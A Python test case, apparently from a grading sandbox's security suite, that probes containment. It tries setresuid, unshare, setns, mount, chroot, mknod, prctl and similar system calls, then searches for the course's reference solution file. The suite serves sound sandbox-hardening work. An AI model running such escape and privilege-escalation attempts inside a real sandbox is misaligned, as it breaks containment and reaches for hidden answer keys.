"""Tries to become somebody else, or to leave its namespaces."""

from __future__ import annotations

from base import DONE, HONEST_HALF, HUNT, completed

ABOUT = "gains privileges by system calls that a sandbox must refuse"

CHECK = completed

CELLS = [
    HONEST_HALF,
    HUNT,
    f'''
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
target = "@COURSE@/reference/toolkit/solution.py"


def attempt(name, *arguments):
    ctypes.set_errno(0)
    result = getattr(libc, name)(*arguments)
    print(name, arguments, result, os.strerror(ctypes.get_errno()))
    hunt(target)
    return result


for user in (0, 60999, 1000, 65534):
    attempt("setresuid", user, user, user)
    attempt("setresgid", user, user, user)
attempt("setgroups", 1, (ctypes.c_int * 1)(0))
for flags in (0x10000000, 0x00020000, 0x10020000, 0x20000000, 0x40000000, 0x02000000):
    if attempt("unshare", flags) == 0:
        succeed("namespace", hex(flags))
        attempt("mount", b"/", b"/box", b"", 4096 | 16384, None)
        hunt("/box" + target)
for number in (1, os.getppid(), int("@GRADER@")):
    for kind in ("mnt", "pid", "user", "net"):
        try:
            file = os.open(f"/proc/{{number}}/ns/{{kind}}", os.O_RDONLY)
        except OSError as error:
            print(error)
            continue
        if number != os.getpid() and attempt("setns", file, 0) == 0:
            succeed("namespace setns")
attempt("chroot", b"/")
attempt("pivot_root", b".", b".") if hasattr(libc, "pivot_root") else None
attempt("umount2", b"/box", 2)
attempt("umount2", b"/proc", 2)
attempt("mknod", b"disk", 0o060666, 0x800)
attempt("personality", 0x0040000)
attempt("keyctl", 0, -3, 1) if hasattr(libc, "keyctl") else None
attempt("prctl", 38, 0, 0, 0, 0)
attempt("prctl", 4, 1, 0, 0, 0)
hunt("/proc/1/root" + target, "disk")
print("{DONE}")
''',
]
